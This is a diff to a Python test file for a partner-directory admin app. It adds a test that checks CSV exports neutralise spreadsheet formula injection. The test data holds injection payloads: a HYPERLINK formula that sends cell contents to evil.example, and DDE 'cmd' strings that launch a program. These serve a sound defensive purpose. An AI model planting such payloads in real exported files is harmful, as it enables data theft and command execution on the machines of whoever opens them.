@@ -82,7 +82,7 @@ FORM = {
 
 
 def test_admin_pages_send_strangers_to_the_referrals_login_and_refuse_therapists(
-    client: TestClient,
+    client: TestClient,  # noqa: F811
     settings: Settings,  # noqa: F811
 ) -> None:
     response = client.get("/admin/partners", follow_redirects=False)
@@ -150,7 +150,7 @@ def test_every_form_needs_its_csrf_token(admin: TestClient, settings: Settings) 
 
 
 def test_a_file_with_three_bad_rows_reports_all_three_and_imports_nothing(
-    client: TestClient,
+    client: TestClient,  # noqa: F811
     settings: Settings,  # noqa: F811
 ) -> None:
     response = client.post(
@@ -227,6 +227,48 @@ def test_the_admin_page_imports_and_exports(admin: TestClient) -> None:
     assert "Line 3, column category" in response.text and "nothing was imported" in response.text
     exported = admin.get("/admin/partners/export.csv")
     assert exported.status_code == 200 and exported.text.startswith("name,credentials,category")
+
+
+# What the adversarial review exported verbatim (issue 16, item 1): each would run as a formula in
+# a spreadsheet. Plain numbers (a phone, a longitude) are no formula and stay as they are.
+FORMULAS = {
+    "name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "credentials": "=2+5",
+    "practice": "+cmd|' /C calc'!A0",
+    "hours": "-2+3+cmd|' /C calc'!A0",
+    "bio": "@SUM(1+1)",
+}
+
+
+def test_the_export_defuses_formulas_and_an_import_of_it_restores_them(
+    client: TestClient,  # noqa: F811
+    admin: TestClient,
+) -> None:
+    create(client, **FORMULAS)
+    # A leading TAB is trimmed on input, so this partner's name is stored as "=1+2".
+    tabbed = "name,category,email,specialties\n\t=1+2,dietitian,tab@diet.example,\t=3+4; knees\n"
+    imported = client.post("/api/v1/partners/import", content=tabbed, headers={**ADMIN, "Content-Type": "text/csv"})
+    assert imported.status_code == 200, imported.text
+
+    api = client.get("/api/v1/partners/export", headers=ADMIN)
+    page = admin.get("/admin/partners/export.csv")
+    for exported in (api, page):
+        assert exported.status_code == 200
+        rows = {row["email"]: row for row in csv.DictReader(exported.text.splitlines())}
+        cells = [value for row in rows.values() for value in row.values()]
+        assert not [cell for cell in cells if cell[:1] in ("=", "@", "\t", "\r")]
+        assert all(re.fullmatch(r"[+-][0-9.]+", cell) for cell in cells if cell[:1] in ("+", "-")), cells
+        attacker = rows[PARTNER["email"]]
+        assert {name: attacker[name] for name in FORMULAS} == {name: "'" + value for name, value in FORMULAS.items()}
+        assert (rows["tab@diet.example"]["name"], rows["tab@diet.example"]["specialties"]) == ("'=1+2", "'=3+4; knees")
+        assert attacker["phone"] == PARTNER["phone"] and attacker["lon"] == str(PARTNER["location"]["lon"])
+
+    again = client.post("/api/v1/partners/import", content=api.text, headers={**ADMIN, "Content-Type": "text/csv"})
+    assert again.json() == {"created": 0, "updated": 0, "unchanged": 2, "skipped": 0, "errors": []}
+    stored = client.get("/api/v1/partners", params={"q": "hyperlink"}, headers=ADMIN).json()["items"]
+    assert [(p["name"], p["credentials"], p["practice"]) for p in stored] == [
+        (FORMULAS["name"], FORMULAS["credentials"], FORMULAS["practice"])
+    ]
 
 
 # --- the CLI ---------------------------------------------------------------------------------------
